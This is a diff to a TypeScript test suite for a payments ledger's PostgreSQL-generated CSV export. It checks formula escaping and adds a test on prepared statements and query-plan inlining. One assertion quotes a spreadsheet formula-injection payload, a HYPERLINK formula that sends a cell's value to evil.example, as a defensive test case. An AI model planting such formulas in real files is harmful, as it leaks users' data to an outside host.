@@ -1,5 +1,5 @@
 import { randomUUID } from 'node:crypto';
-import { rowsOf } from '@payrail/db';
+import { openDatabase, rowsOf } from '@payrail/db';
 import { aMerchant, type ServiceUnderTest, startService } from '@payrail/testing';
 import { localDateTimeWithOffsetWriter } from '@payrail/time';
 import { sql } from 'drizzle-orm';
@@ -123,5 +123,42 @@ describe("the ledger's text written by PostgreSQL", () => {
     // The guard is in it: a customer's formula is written as text.
     expect(expected).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
     expect(expected).toContain(",'+595981000111,");
+  });
+
+  it("the export's statements are prepared, their CSV cells inlined (no call per field)", async () => {
+    // One connection of its own, as the service's pool has them: the statements it sends are what a batch
+    // sends, the first batch (no position) and the ones after it (a position).
+    const sent: string[] = [];
+    const database = openDatabase({ url: svc.testDatabase.url, max: 1, onQuery: (text) => sent.push(text) });
+    try {
+      const store = postgresLedgerStore(database.db);
+      const [first] = await store.page(merchant.merchantId, {}, undefined, 1000, 'csv');
+      expect(first).toBeDefined();
+      await store.page(merchant.merchantId, {}, first?.position, 1000, 'csv');
+      const statements = [...new Set(sent.filter((text) => text.includes('processor_gateway.ledger')))];
+      expect(statements).toHaveLength(2);
+      // Prepared (kept by the connection), so parsed and planned once, not at every batch: a statement
+      // over libs/db's PREPARE_UP_TO_CHARS would not be.
+      const prepared = rowsOf<{ statement: string }>(
+        await database.db.execute(sql`select statement from pg_prepared_statements`),
+      ).map((row) => row.statement.trim());
+      for (const text of statements) expect(prepared).toContain(text.trim());
+      // csv_cell (migration 0009) is inlined: the plan's output is its expression, not a call of it per
+      // field (a STRICT or non-immutable declaration would keep the call).
+      const [firstBatch] = statements;
+      await database.db.execute(sql.raw(`prepare explained_export as ${firstBatch}`));
+      const plan = rowsOf<{ 'QUERY PLAN': string }>(
+        await database.db.execute(
+          sql.raw(`explain (verbose) execute explained_export('${merchant.merchantId}')`),
+        ),
+      )
+        .map((row) => row['QUERY PLAN'])
+        .join('\n');
+      await database.db.execute(sql.raw('deallocate explained_export'));
+      expect(plan).toContain('ascii(label)');
+      expect(plan).not.toContain('csv_cell');
+    } finally {
+      await database.close();
+    }
   });
 });
